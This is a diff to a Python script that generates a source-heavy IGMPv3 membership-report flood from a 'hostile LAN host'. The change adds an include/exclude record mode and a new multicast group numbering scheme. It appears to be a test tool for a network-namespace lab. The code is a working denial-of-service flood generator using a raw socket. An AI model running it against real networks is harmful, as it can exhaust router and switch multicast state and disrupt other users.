@@ -1,11 +1,12 @@
 """A source-heavy IGMPv3 flood, as one hostile LAN host sends it (python3 standard library only).
 
-Usage: v3_flood.py SRC_ADDR COUNT SECONDS SOURCES GROUPS
+Usage: v3_flood.py SRC_ADDR COUNT SECONDS SOURCES GROUPS [include|exclude]
 
 Sends up to COUNT IGMPv3 membership reports from SRC_ADDR (an address of this namespace) to
 224.0.0.22 within at most SECONDS, as fast as the socket takes them: each holds one
-MODE_IS_INCLUDE record with SOURCES sources (203.0.113.1, ...; at most 254) for one of GROUPS
-groups 239.1.x.y, taken in turn. Router Alert set, TTL 1. Prints "sent N in S s" at the end.
+MODE_IS_INCLUDE (or MODE_IS_EXCLUDE) record with SOURCES sources (203.0.113.1, ...; at most
+254) for one of GROUPS groups 239.a.b.c (239.1.0.1, 239.1.0.2, ...), taken in turn. Router
+Alert set, TTL 1. Prints "sent N in S s" at the end.
 """
 import socket
 import struct
@@ -22,9 +23,14 @@ def csum(b):
     return (~s) & 0xFFFF
 
 
-def report(group, nsrc):
+def group_address(g):
+    a = g // 250
+    return "239.%d.%d.%d" % (1 + a // 250, a % 250, 1 + g % 250)
+
+
+def report(group, nsrc, mode):
     sources = b"".join(socket.inet_aton("203.0.113.%d" % (1 + i)) for i in range(nsrc))
-    record = struct.pack("!BBH4s", 1, 0, nsrc, socket.inet_aton(group)) + sources
+    record = struct.pack("!BBH4s", mode, 0, nsrc, socket.inet_aton(group)) + sources
     msg = bytearray(struct.pack("!BBHHH", 0x22, 0, 0, 0, 1) + record)
     struct.pack_into("!H", msg, 2, csum(bytes(msg)))
     return bytes(msg)
@@ -33,8 +39,9 @@ def report(group, nsrc):
 def main():
     src, count, seconds, nsrc, ngroups = sys.argv[1:6]
     count, seconds, nsrc, ngroups = int(count), float(seconds), int(nsrc), int(ngroups)
+    mode = 2 if len(sys.argv) > 6 and sys.argv[6] == "exclude" else 1
     nsrc = max(0, min(nsrc, 254))
-    packets = [report("239.1.%d.%d" % (g // 250, 1 + g % 250), nsrc) for g in range(ngroups)]
+    packets = [report(group_address(g), nsrc, mode) for g in range(ngroups)]
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_IGMP)
     s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x94\x04\x00\x00")
     s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
